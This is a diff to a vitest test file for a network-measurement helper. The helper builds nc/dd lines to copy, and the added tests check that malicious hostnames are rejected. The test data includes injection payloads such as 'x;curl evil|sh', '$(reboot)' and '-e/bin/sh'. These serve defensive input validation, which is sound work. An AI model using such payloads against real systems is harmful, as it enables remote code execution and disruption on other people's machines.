@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest'
 
-import { readCopied } from './measure-link.ts'
+import { createMeasureLink, measureLines, readCopied } from './measure-link.ts'
 
 describe('what came of a measurement', () => {
   test("bytes and time are those of the target's dd", () => {
@@ -29,4 +29,24 @@ describe('what came of a measurement', () => {
     const none = '0 bytes copied, 9.1 s, 0.0 kB/s\n'
     expect(readCopied(none, words)).toEqual({ failed, end: 'source', words })
   })
+})
+
+describe('the name that a host tells', () => {
+  test('stands in the lines to copy', () => {
+    expect(measureLines({ hostname: 'beta.example' })).toContain(' nc beta.example 49215 <')
+  })
+
+  test.each(['x;curl evil|sh', '$(reboot)', '-e/bin/sh', 'a b', "a'b"])(
+    'as %s reaches no shell: neither ours nor that of who copies',
+    async (hostname) => {
+      expect(measureLines({ hostname })).toBeNull()
+      const measure = createMeasureLink({ sshCommand: '/nowhere/ssh' })
+      const uri = 'qemu+ssh://root@alpha/system'
+      expect(await measure({ sourceUri: uri, targetUri: uri, hostname })).toEqual({
+        failed: 'no-way',
+        end: 'target',
+        words: `${hostname} is no host name`,
+      })
+    },
+  )
 })
